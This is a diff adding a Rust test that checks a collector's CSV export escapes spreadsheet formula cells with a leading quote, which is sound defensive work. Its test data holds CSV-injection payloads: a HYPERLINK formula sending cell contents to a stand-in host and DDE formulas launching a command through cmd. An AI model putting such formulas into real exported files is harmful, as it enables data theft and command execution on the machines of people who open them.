@@ -214,3 +214,91 @@ async fn the_files_hold_exactly_the_published_aggregates() {
     assert!(later.status.success());
     assert_eq!(String::from_utf8_lossy(&later.stdout).trim(), "[]");
 }
+
+/// A CSV cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return: the OWASP rule) is written with a leading `'`; numbers and every other
+/// cell are left as they are, and the JSON file keeps the names as the config gives them.
+/// The config is the collector's own, and load checks every stored report against it, so only
+/// a config naming such a counter or OS can put one in a file. Fails if the cells go out as
+/// they are.
+#[tokio::test]
+async fn the_csv_never_holds_a_formula() {
+    let formulas = [
+        "=HYPERLINK(\"https://zqsecret.example/?\"&A1,\"zqsecret\")",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let mut config: serde_json::Value = serde_json::from_str(EXAMPLE_CONFIG).unwrap();
+    let cargo = &mut config["programs"][0];
+    assert_eq!(cargo["name"], "cargo");
+    for name in formulas {
+        cargo["counters"]
+            .as_array_mut()
+            .unwrap()
+            .push(serde_json::json!({ "name": name, "rate": 1.0 }));
+    }
+    config["os"].as_array_mut().unwrap().push("=os()".into());
+    let collector = Collector::with_config(&serde_json::to_string_pretty(&config).unwrap());
+    let store = tempfile::tempdir().unwrap();
+    let state = collector.state(store.path(), 1).await.unwrap();
+    let mut counters: Vec<(&str, u64)> = formulas.iter().map(|f| (*f, 2)).collect();
+    counters.push(("cargo/invocations", 3));
+    let mut r = report(0.5, "1.95.0", &counters);
+    r.programs[0].os = "=os()".into();
+    let (status, text) = upload(&state, &r).await;
+    assert_eq!(status, StatusCode::OK, "{text}");
+
+    let (_, csv_bytes) = call(&state, "GET", &format!("/data/{MONDAY}.csv"), vec![]).await;
+    let mut reader = csv::ReaderBuilder::new()
+        .comment(Some(b'#'))
+        .from_reader(&csv_bytes[..]);
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let mut names = Vec::new();
+    for row in reader.records() {
+        let row = row.unwrap();
+        for (column, cell) in header.iter().zip(row.iter()) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{column}: {cell:?} would run in a spreadsheet"
+            );
+            if [
+                "program_reports",
+                "reports",
+                "share",
+                "low",
+                "high",
+                "total",
+            ]
+            .contains(&column.as_str())
+                && !cell.is_empty()
+            {
+                assert!(
+                    cell.parse::<f64>().is_ok_and(|n| n >= 0.0),
+                    "{column}: {cell:?}"
+                );
+            }
+        }
+        names.push(row.get(5).unwrap().to_owned());
+    }
+    for formula in formulas {
+        assert!(
+            names.contains(&format!("'{formula}")),
+            "{formula:?} not written as '{formula:?}: {names:?}"
+        );
+    }
+    assert!(names.contains(&"'=os()".to_string()), "{names:?}");
+    assert!(names.contains(&"cargo/invocations".to_string()));
+    // The JSON file is not a spreadsheet: the names as the config gives them.
+    let (_, json) = call(&state, "GET", &format!("/data/{MONDAY}.json"), vec![]).await;
+    let data: WeekData = serde_json::from_slice(&json).unwrap();
+    let cargo = &data.programs[0];
+    for formula in formulas {
+        assert!(
+            cargo.counters.iter().any(|c| c.name == formula),
+            "{formula:?}"
+        );
+    }
+}
